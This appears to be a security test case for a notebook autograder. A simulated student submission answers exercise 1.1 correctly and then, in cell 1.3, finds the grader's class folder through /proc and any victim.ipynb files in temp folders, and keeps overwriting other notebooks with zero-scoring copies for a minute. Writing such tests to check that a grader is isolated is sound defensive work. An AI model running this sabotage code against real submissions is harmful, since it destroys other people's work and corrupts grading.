# kind: harm
# what: solves 1.1, then finds the class folder from the grader's command line (and any victim.ipynb in temp folders) and keeps overwriting every other notebook with a zero-scoring copy for a minute
# expect-score 1.1: 1.00
# expect-max-total: 1.00
# cell 1.1
class SquaresDataset(Dataset):
    def __init__(self, n):
        self.x = torch.linspace(-1, 1, n).unsqueeze(1)
        self.y = self.x ** 2

    def __len__(self):
        return len(self.x)

    def __getitem__(self, index):
        return self.x[index], self.y[index]


# cell 1.3
import glob
import json
import os
import tempfile
import threading
import time


def _ancestors():
    pid, out = os.getppid(), []
    while pid > 1 and len(out) < 20:
        try:
            cmd = [c.decode(errors="replace") for c in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0") if c]
            cwd = os.readlink(f"/proc/{pid}/cwd")
            ppid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        out.append((pid, cmd, cwd))
        pid = ppid
    return out


_mine = {os.path.abspath(p) for p in glob.glob("*.ipynb")}
_my_names = {os.path.basename(p) for p in _mine} | {"student.ipynb"}


def _targets():
    found = set()
    for pid, cmd, cwd in _ancestors():
        if "grade" in cmd:
            for a in cmd[cmd.index("grade") + 1:]:
                if a.startswith("-"):
                    continue
                p = a if os.path.isabs(a) else os.path.join(cwd, a)
                if os.path.isdir(p):
                    found.update(glob.glob(os.path.join(p, "**", "*.ipynb"), recursive=True))
                break
    roots = {tempfile.gettempdir(), os.environ.get("TMPDIR") or "/tmp", "/tmp", os.path.dirname(os.getcwd()),
             os.path.dirname(os.path.dirname(os.getcwd()))}
    for root in roots:
        if not root or not os.path.isdir(root) or "grading_cases" not in os.path.abspath(root):
            continue
        base = root.rstrip("/").count("/")
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.count("/") - base >= 5:
                dirnames[:] = []
            if "victim.ipynb" in filenames:
                found.add(os.path.join(dirpath, "victim.ipynb"))
    # test-harness safety: this machine is shared, so only touch files under this test's own folders
    return {os.path.abspath(p) for p in found if os.path.basename(p) not in _my_names
            and os.path.abspath(p) not in _mine and "grading_cases" in os.path.abspath(p)}


with open(sorted(_mine)[0]) as f:
    _nb = json.load(f)
for _cell in _nb["cells"]:
    if any(t.startswith("exercise:") for t in _cell.get("metadata", {}).get("tags", [])):
        _cell["source"] = "pass  # overwritten by a classmate\n"
_payload = json.dumps(_nb)


def _attack():
    end = time.time() + 60
    while time.time() < end:
        for t in _targets():
            try:
                with open(t, "w") as f:
                    f.write(_payload)
            except OSError:
                pass
        time.sleep(0.2)


_attack_targets = _targets()
print("overwriting", len(_attack_targets), "notebooks")
threading.Thread(target=_attack, daemon=True).start()
time.sleep(3)
